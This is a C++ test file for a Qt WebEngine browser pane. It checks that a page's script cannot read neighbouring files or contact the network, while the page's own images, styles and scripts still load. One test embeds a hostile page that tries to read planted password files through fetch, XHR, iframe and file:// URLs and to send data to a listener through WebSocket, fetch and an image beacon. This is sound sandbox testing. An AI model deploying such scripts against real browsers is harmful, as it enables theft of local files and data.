// The browser pane on the real engine, offscreen: a page's script reads no file beside it
// (ftp.txt, the field files) and reaches nothing on the network, while the page's own
// pictures, style sheet and scripts load; a page from a web host runs no script at all.
#include <gtest/gtest.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <QCoreApplication>
#include <QElapsedTimer>
#include <QImage>
#include <QWebEnginePage>
#include <QWebEngineScript>
#include <QWebEngineView>

#include <atomic>
#include <thread>

#include "platform/web_pane.hpp"
#include "tests/loopback.hpp"
#include "tests/temp_folder.hpp"

namespace pw {
namespace {

bool WaitFor(const std::function<bool()>& done, int milliseconds = 20000) {
    QElapsedTimer clock;
    clock.start();
    while (!done()) {
        if (clock.elapsed() > milliseconds) return false;
        QCoreApplication::processEvents(QEventLoop::AllEvents, 20);
    }
    return true;
}

QVariant Evaluate(WebEnginePane& pane, const QString& script, quint32 world = QWebEngineScript::MainWorld) {
    std::optional<QVariant> result;
    pane.view().page()->runJavaScript(script, world, [&](const QVariant& value) { result = value; });
    EXPECT_TRUE(WaitFor([&] { return result.has_value(); }));
    return result.value_or(QVariant());
}

class WebPaneTest : public testing::Test {
protected:
    WebPaneTest() {
        site.Write("ftp.txt", "\"TOPSECRET\",\"Password\"\r\n\"webmaster\",\"UserName\"\r\n");
        site.Write("oneBox.txt", "\"FIELDSECRET\",\"Text2\"\r\n");
        site.Write("style.css", "body { background-color: rgb(1, 2, 3); }");
        site.Write("design.js", "window.designRan = true;");
        QImage logo(8, 6, QImage::Format_RGB32);
        logo.fill(Qt::red);
        logo.save(QString::fromStdString((site.path() / "logo.gif").string()), "PNG");  // as a picture under .gif
        pane.resize(400, 300);
        pane.show();
    }

    void Show(const std::string& name, const std::string& page, bool scripts = true) {
        site.Write(name, page);
        bool loaded = false;
        QObject::connect(&pane, &WebPane::DownloadComplete, &pane, [&] { loaded = true; });
        const QString file = QString::fromStdString((site.path() / name).string());
        scripts ? pane.Navigate(file) : pane.NavigateWithoutScripts(file);
        ASSERT_TRUE(WaitFor([&] { return loaded; }));
        QObject::disconnect(&pane, &WebPane::DownloadComplete, &pane, nullptr);
    }

    test::TempFolder site;
    WebEnginePane pane;
};

TEST_F(WebPaneTest, APagesScriptReadsNoFileBesideItAndSendsNothingWhileItsOwnFilesLoad) {
    test::CountingListener listener;
    const std::string away = "127.0.0.1:" + std::to_string(listener.port());
    const std::string ftpFile = (site.path() / "ftp.txt").string();
    // Every way a script has to read a neighbour, each reporting what it got.
    Show("index.html", R"(<!DOCTYPE html>
<html><head><link rel="stylesheet" href="style.css"><script src="design.js"></script></head>
<body><img id="logo" src="logo.gif">
<script>
window.report = [];
window.pending = 0;
function tried(how, promise) {
  pending++;
  promise.then(text => report.push(how + ": " + text), e => report.push(how + " refused"))
         .finally(() => pending--);
}
tried("fetch", fetch("ftp.txt").then(r => r.text()));
tried("fetch fields", fetch("oneBox.txt").then(r => r.text()));
tried("fetch file", fetch("file://)" +
                           ftpFile + R"(").then(r => r.text()));
tried("xhr", new Promise((ok, no) => {
  const x = new XMLHttpRequest(); x.open("GET", "ftp.txt");
  x.onload = () => ok(x.responseText); x.onerror = no; x.send(); }));
tried("frame", new Promise((ok, no) => {
  const f = document.createElement("iframe"); f.src = "ftp.txt";
  f.onload = () => { try { ok(f.contentDocument.body.innerText); } catch (e) { no(e); } };
  f.onerror = no; document.body.appendChild(f); setTimeout(no, 3000); }));
tried("socket", new Promise((ok, no) => {
  try { const s = new WebSocket("ws://)" +
                           away + R"("); s.onopen = () => ok("open"); s.onerror = no; }
  catch (e) { no(e); } }));
tried("beacon", fetch("http://)" +
                           away + R"(/?" + document.title).then(r => r.text()));
const picture = new Image(); picture.src = "http://)" +
                           away + R"(/x.gif";
</script></body></html>)");

    ASSERT_TRUE(WaitFor([&] { return Evaluate(pane, "window.pending === 0 && report.length === 7").toBool(); }))
        << Evaluate(pane, "JSON.stringify(report)").toString().toStdString();
    const std::string report = Evaluate(pane, "JSON.stringify(report)").toString().toStdString();
    EXPECT_EQ(report.find("SECRET"), std::string::npos) << report;
    EXPECT_EQ(report.find("webmaster"), std::string::npos) << report;
    EXPECT_EQ(report.find("open"), std::string::npos) << report;
    QCoreApplication::processEvents(QEventLoop::AllEvents, 200);
    EXPECT_EQ(listener.connections(), 0);

    // The page's own picture, style sheet and design script.
    EXPECT_GT(Evaluate(pane, "document.getElementById('logo').naturalWidth").toInt(), 0);
    EXPECT_EQ(Evaluate(pane, "getComputedStyle(document.body).backgroundColor").toString(), "rgb(1, 2, 3)");
    EXPECT_TRUE(Evaluate(pane, "window.designRan === true").toBool());
    EXPECT_EQ(Evaluate(pane, "document.compatMode").toString(), "CSS1Compat") << "the doctype still counts";
}

TEST_F(WebPaneTest, AnInstallationPageUnderItsOwnExtensionShowsAsHtml) {
    Show("logo.htx", "<html><body><b id='b'>bold</b><img id='logo' src='logo.gif'></body></html>");
    EXPECT_EQ(Evaluate(pane, "document.getElementById('b').tagName").toString(), "B");
    EXPECT_GT(Evaluate(pane, "document.getElementById('logo').naturalWidth").toInt(), 0);
}

TEST_F(WebPaneTest, APageFromTheHostRunsNoScriptButShowsItsPictures) {
    Show("temp.html",
         "<html><head><title>as sent</title></head><body><img id='logo' src='logo.gif'>"
         "<script>document.title = 'ran';</script></body></html>",
         false);
    EXPECT_EQ(pane.view().page()->title(), "as sent");
    // Looked at from a world of the pane's own: the page's scripts are what is off.
    EXPECT_GT(
        Evaluate(pane, "document.getElementById('logo').naturalWidth", QWebEngineScript::ApplicationWorld).toInt(), 0);

    // The site's own page afterwards runs its scripts again.
    Show("index.html",
         "<html><head><title>own</title></head><body><script>document.title = 'ran';</script></body>"
         "</html>");
    EXPECT_TRUE(WaitFor([&] { return pane.view().page()->title() == "ran"; }));
}

}  // namespace
}  // namespace pw
